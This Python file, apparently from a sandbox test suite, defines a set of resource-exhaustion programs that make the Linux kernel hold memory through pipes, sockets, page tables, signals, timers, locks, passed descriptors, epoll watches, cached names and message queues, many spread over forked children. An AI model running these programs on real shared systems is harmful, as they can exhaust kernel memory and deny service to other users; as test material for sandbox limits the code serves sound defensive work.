"""Programs that make the kernel hold memory for them: buffers, tables, queues, names and locks."""

# ruff: noqa: E501 - the programs are text

from __future__ import annotations

from attacks.hiding import GROUP, hides

__all__ = ["ATTACKS", "GROUP"]

FAMILY = """
def family(fill, children=30):
    read, written = os.pipe()
    for _ in range(children):
        try:
            if os.fork() == 0:
                os.setsid()
                try:
                    megabytes = fill()
                except OSError as error:
                    megabytes = 0
                os.write(written, b"%d\\n" % megabytes)
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    os.close(written)
    text = b""
    while text.count(b"\\n") < children and (more := os.read(read, 4096)):
        text += more
        holds(fill.__name__, sum(map(int, text.split(b"\\n")[:-1])))
"""

ATTACKS = (
    hides(
        "pipes of many children",
        "fills pipes as large as they get, in many children",
        FAMILY
        + """
def pipes():
    total, held = 0, globals().setdefault("held", [])
    try:
        while total < 16 << 20:
            held.append(os.pipe())
            os.set_blocking(held[-1][1], False)
            try:
                fcntl.fcntl(held[-1][1], 1031, 1 << 20)
            except OSError:
                pass
            total += os.write(held[-1][1], bytes(1 << 20))
    except OSError:
        pass
    return total >> 20
def attack():
    family(pipes)
""",
    ),
    hides(
        "Unix sockets of many children",
        "fills stream, datagram and packet sockets with as large a buffer as they get",
        FAMILY
        + """
def sockets():
    total, held = 0, globals().setdefault("held", [])
    while total < 16 << 20:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                one, other = socket.socketpair(socket.AF_UNIX, kind)
            except OSError:
                return total >> 20
            held.append((one, other))
            for end in (one, other):
                end.setblocking(False)
                for option in (socket.SO_SNDBUF, 32, socket.SO_RCVBUF, 33):
                    try:
                        end.setsockopt(socket.SOL_SOCKET, option, 1 << 22)
                    except OSError:
                        pass
                try:
                    while True:
                        total += end.send(bytes(1 << 15))
                except OSError:
                    pass
    return total >> 20
def attack():
    family(sockets)
""",
    ),
    hides(
        "datagrams on loopback",
        "sends datagrams to sockets of its own that nobody reads, in many children",
        FAMILY
        + """
def datagrams():
    total, held = 0, globals().setdefault("held", [])
    while total < 16 << 20:
        try:
            end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            end.bind(("127.0.0.1", 0))
        except OSError:
            break
        held.append(end)
        end.setblocking(False)
        for option in (socket.SO_RCVBUF, 33, socket.SO_SNDBUF):
            try:
                end.setsockopt(socket.SOL_SOCKET, option, 1 << 22)
            except OSError:
                pass
        try:
            for _ in range(8):
                total += end.sendto(bytes(1 << 13), end.getsockname())
        except OSError:
            pass
    return total >> 20
def attack():
    family(datagrams)
""",
    ),
    hides(
        "page tables",
        "reads one byte in each 2 MB of a huge mapping: only tables are taken, no memory",
        """
def attack():
    area, step = None, 2 << 20
    for gigabytes in (256, 64, 16, 4, 1):
        try:
            area = mmap.mmap(-1, gigabytes << 30, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
            break
        except OSError as error:
            print("held:", gigabytes, error)
    if area is not None:
        for n in range(0, gigabytes << 30, step):
            area[n]
        holds("page tables", (gigabytes << 30) // step * 4 >> 10)
""",
    ),
    hides(
        "page tables of many children",
        "the same, in as many children as it gets",
        FAMILY
        + """
def tables():
    area = globals()["area"] = mmap.mmap(-1, 1 << 29, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
    for n in range(0, 1 << 29, 2 << 20):
        area[n]
    return 1
def attack():
    family(tables)
""",
    ),
    hides(
        "areas of memory",
        "splits an empty mapping into tens of thousands of areas, in as many children as it gets",
        FAMILY
        + """
def areas():
    return 3
def attack():
    LIBC.mmap.restype = ctypes.c_void_p
    at = LIBC.mmap(None, ctypes.c_size_t(16100 * 8192), 0, 0x4022, -1, 0)
    split = LIBC.mprotect
    split.argtypes = ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int
    count = 0
    while count < 8000 and split(at + count * 8192, 4096, 1) == 0:
        count += 1
    print("held:", count * 2, "areas", flush=True)
    if count > 6000:
        family(areas)
""",
    ),
    hides(
        "signals that wait",
        "queues signals that are blocked, to itself and in children",
        """
def attack():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    info, count = ctypes.create_string_buffer(128), 0
    while count < 200_000 and LIBC.sigqueue(os.getpid(), 34 + count % 30, ctypes.c_void_p(0)) == 0:
        count += 1
    print("held:", count)
    if count >= 200_000:
        out(f"{count} signals")
""",
    ),
    hides(
        "timers",
        "makes timers of the kernel without end",
        """
def attack():
    count, number = 0, ctypes.create_string_buffer(8)
    while count < 200_000 and LIBC.timer_create(1, None, number) == 0:
        count += 1
    print("held:", count)
    if count >= 200_000:
        out(f"{count} timers")
""",
    ),
    hides(
        "locks of files",
        "locks every second byte of many files, and of open files' descriptions",
        """
def attack():
    files, count = [open(f"locked{n}", "wb") for n in range(100)], 0
    try:
        for at in range(2000):
            for file in files:
                fcntl.lockf(file, fcntl.LOCK_EX, 1, at * 2)
                count += 1
    except OSError as error:
        print("held:", error)
    holds("locks", count * 1 >> 12)
""",
        limits={"cpu_s": 0.3, "wall_s": 3, "memory_mb": 128},
    ),
    hides(
        "descriptors in flight",
        "sends descriptors over sockets and sends those sockets, so that it has more than it may",
        """
def attack():
    count = 0
    try:
        while count < 100_000:
            one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            one.setblocking(False)
            numbers = [os.eventfd(0) for _ in range(120)]
            try:
                while True:
                    socket.send_fds(one, [b"x"], numbers)
                    count += len(numbers)
            except BlockingIOError:
                pass
            for number in numbers:
                os.close(number)
            socket.send_fds(one, [b"x"], [other.fileno()]) if count < 0 else None
            globals().setdefault("held", []).append((one, other))
    except OSError as error:
        print("held:", error, count)
    if count >= 100_000:
        out(f"{count} descriptors in flight")
""",
    ),
    hides(
        "watches of polls",
        "adds every descriptor to every one of many epolls, and epolls to epolls",
        """
import select
def attack():
    ends, polls, count = [], [], 0
    try:
        while len(ends) < 60:
            ends.append(os.eventfd(0))
        while count < 1_500_000:
            polls.append(select.epoll())
            for end in ends:
                polls[-1].register(end, select.EPOLLIN)
                count += 1
    except OSError as error:
        print("held:", error, count)
    holds("watches", count >> 13)
""",
        limits={"cpu_s": 0.3, "wall_s": 3, "memory_mb": 128},
    ),
    hides(
        "names that are not there",
        "asks for files that do not exist, which the kernel remembers",
        """
def attack():
    before = open("/proc/sys/fs/dentry-state").read().split() if os.path.exists("/proc/sys/fs/dentry-state") else None
    for number in range(3_000_000):
        LIBC.access(b"/usr/lib/%d-%s" % (number, b"x" * 200), 0)
    after = open("/proc/sys/fs/dentry-state").read().split() if before else [0]
    out(f"3,000,000 names {before} {after}")
""",
        limits={"cpu_s": 0.3, "wall_s": 3, "memory_mb": 128},
    ),
    hides(
        "texts of links and attributes",
        "keeps text in symbolic links, extended attributes and long names, where no file has a size",
        """
def attack():
    total, text = 0, "x" * 4000
    for top in (".", "/tmp", "/dev/shm"):
        try:
            for number in range(30_000):
                os.symlink(text, f"{top}/l{number}")
                total += 4096
        except OSError as error:
            print("held:", top, error, total >> 20)
        try:
            for number in range(4_000):
                path = f"{top}/{number}".ljust(200, "y")
                open(path, "w").close()
                for name in range(4):
                    os.setxattr(path, f"user.{name}", bytes(1 << 15))
                    total += 1 << 15
        except OSError as error:
            print("held:", top, error, total >> 20)
    holds("texts", total >> 20)
""",
    ),
    hides(
        "messages in queues",
        "fills POSIX message queues, which belong to no process",
        """
def attack():
    total = 0
    kept = struct.pack("=qqqq", 0, 10, 8192, 0) + bytes(32)
    for number in range(64):
        queue = LIBC.syscall(ctypes.c_long(NUMBERS["mq_open"][ARM]), b"q%d" % number, ctypes.c_long(0o102), ctypes.c_long(0o600), kept)
        if queue < 0:
            print("held:", os.strerror(ctypes.get_errno()))
            break
        total += 81920
    if total > 4 << 20:
        out(f"{total >> 20} MB of queues")
""",
    ),
)
